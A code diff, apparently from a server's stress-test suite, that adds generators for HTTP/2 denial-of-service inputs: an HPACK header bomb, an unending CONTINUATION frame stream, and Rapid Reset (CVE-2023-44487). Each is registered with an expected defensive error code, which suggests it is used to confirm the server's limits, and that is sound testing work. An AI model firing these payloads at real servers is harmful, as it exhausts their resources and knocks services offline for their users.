@@ -339,6 +339,35 @@ def endless_handshake(n: int) -> bytes:
     return trace(talk)
 
 
+# ------------------------------------------------------------------------------------------------ HTTP/2
+_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes.fromhex("000000040000000000")
+
+
+def _frame2(kind: int, flags: int, stream: int, body: bytes) -> bytes:
+    return len(body).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + body
+
+
+def hpack_bombs(n: int) -> bytes:
+    """A field of 3,900 bytes put into the dynamic table, then named by a byte, 15,000 times a head: 58 MB each."""
+    field = b"\x40\x01a\x7f\xbd\x1d" + b"v" * 3900
+    heads = [_frame2(1, 5, 2 * k + 3, b"\xbe" * 15_000) for k in range(n)]
+    return in_segments(_PREFACE + _frame2(1, 5, 1, field) + b"".join(heads))
+
+
+def continuations(n: int) -> bytes:
+    """A head that goes on in CONTINUATION frames and never ends; n segments of them."""
+    return in_segments(_PREFACE + _frame2(1, 1, 1, b"\x82") + _frame2(9, 0, 1, b"\x84" * 16) * (58 * n))
+
+
+def rapid_resets(n: int) -> bytes:
+    """Streams opened and reset at once (CVE-2023-44487); n segments of 60."""
+    pairs = (
+        _frame2(1, 5, (2 * k + 1) % 2**31, b"\x82\x84\x86") + _frame2(3, 0, (2 * k + 1) % 2**31, bytes(4))
+        for k in range(60 * n)
+    )
+    return in_segments(_PREFACE + b"".join(pairs))
+
+
 # ------------------------------------------------------------------------------------------------ the list
 @dataclass(frozen=True)
 class Attack:
@@ -382,6 +411,9 @@ ATTACKS: dict[str, Attack] = {
     "deflate_bombs": Attack(deflate_bombs, 200, 200, 4, "websocket.inflate_bomb"),
     "tiny_frames": Attack(tiny_frames, 2_000, 600, 5),
     "ping_flood": Attack(ping_flood, 5_000, 600, 10),
+    "hpack_bombs": Attack(hpack_bombs, 25, 300, 3, "http2.header_list_cap"),
+    "continuations": Attack(continuations, 2_500, 300, 800, "http2.block_cap"),
+    "rapid_resets": Attack(rapid_resets, 1_000, 600, 5),
     "hello_flood": Attack(hello_flood, 10_000, 900, 50),
     "certificate_bomb": Attack(certificate_bomb, 250, 600, 2, "tls.bad_certificate"),
     "record_crumbs": Attack(record_crumbs, 2_500, 600, 5),
